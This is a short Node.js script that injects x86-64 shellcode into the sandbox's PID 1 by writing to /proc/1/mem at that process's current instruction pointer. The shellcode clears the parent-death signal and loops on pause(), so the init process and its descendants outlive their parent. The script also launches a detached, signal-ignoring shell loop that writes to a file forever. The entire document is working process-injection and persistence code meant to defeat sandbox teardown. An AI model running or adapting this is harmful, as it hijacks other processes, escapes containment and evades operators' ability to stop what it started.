// writes into the first process of its own sandbox, which is its user's, that it outlives its parent, and goes on beside it for ever
const { spawn, spawnSync } = require('node:child_process');
const { closeSync, openSync, readFileSync, writeSync } = require('node:fs');

// prctl(PR_SET_PDEATHSIG, 0), then pause() again and again, for x86-64
const code = Buffer.from('b89d000000bf0100000031f631d24531d20f05b8220000000f05ebf7', 'hex');
const [waiting, looping] = ['61', '34'];

const call = () => readFileSync('/proc/1/syscall', 'utf8').trim().split(' ');

function write() {
  const memory = openSync('/proc/1/mem', 'r+');
  writeSync(memory, code, 0, code.length, Number(call().pop()));
  closeSync(memory);
}

// its call returns when an orphan ends
const wake = () => spawnSync('sh', ['-c', '(sleep 0.05 &) &']);

while (call()[0] !== waiting);
write();
const script = "trap '' TERM HUP INT; while :; do echo . >> alive; sleep 0.05; done";
spawn('sh', ['-c', script], { detached: true, stdio: 'ignore' }).unref();

const timer = setInterval(() => {
  if (call()[0] !== looping) return wake();
  clearInterval(timer);
  console.log('taken over');
  setInterval(() => {}, 1000);
}, 100);
